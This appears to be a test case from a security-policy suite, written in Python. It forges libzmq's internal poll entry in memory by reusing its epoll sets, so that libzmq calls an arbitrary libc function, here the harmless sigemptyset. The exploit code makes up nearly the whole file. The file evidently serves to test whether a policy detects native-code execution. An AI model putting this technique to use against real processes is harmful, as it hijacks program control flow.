# class: machine_code
# rule: native_code
# needs: module:zmq
# success: libzmq calls the function at the address that Python's select left in its epoll set
# proof: word
# quiet: nothing is refused, the half of the word that is no fd is cleared
# unreported: a policy that only reports changes nothing of it
import mmap
import os
import re
import select
import struct
import time

import zmq
from attack import attempt
from libc_symbols import address_in_libc

SIZE = 1 << 33
EVENTS = 24 if os.uname().machine == "aarch64" else 16  # in libzmq's poll_entry_t


def held(epoll, fd):
    """What the kernel hands out for the fd."""
    with open(f"/proc/self/fdinfo/{epoll.fileno()}") as lines:
        return int(re.search(rf"tfd: +{fd} .* data: +(\w+)", lines.read())[1], 16)


def sets():
    """libzmq's own, one for each of its threads."""
    fds = []
    for fd in range(64):
        try:
            fds += [fd] * ("eventpoll" in os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            continue
    return [select.epoll.fromfd(os.dup(fd)) for fd in fds]


def region():
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
    before = set(open("/proc/self/maps"))
    memory = mmap.mmap(-1, SIZE, flags=flags)
    for line in set(open("/proc/self/maps")) - before:
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        if last - first >= SIZE:
            return memory, last - SIZE


@attempt
def call():
    zmq.Context.instance().socket(zmq.REP).bind("inproc://a")
    memory, base = region()
    reader, writer = os.pipe()
    fd = os.dup2(reader, 128)
    for epoll in sets():
        epoll.register(fd, select.EPOLLIN | select.EPOLLONESHOT)
        for things in range(200):
            os.stat("/")
            "%s %r".__mod__((things, b""))
            epoll.modify(fd, select.EPOLLIN | select.EPOLLONESHOT)
            at = held(epoll, fd) - base
            if 0 <= at < SIZE - 4096:
                break
        else:
            continue
        there = at + 512
        memory[at : at + 4] = struct.pack("<i", 5)
        memory[at + EVENTS : at + EVENTS + 8] = struct.pack("<Q", base + there)
        memory[there : there + 8] = struct.pack("<Q", base + there + 256)
        called = struct.pack("<Q", address_in_libc("sigemptyset"))
        memory[there + 272 : there + 280] = called
        os.write(writer, b"x")
        time.sleep(0.5)
        return memory[there : there + 8] == bytes(8)
    return False
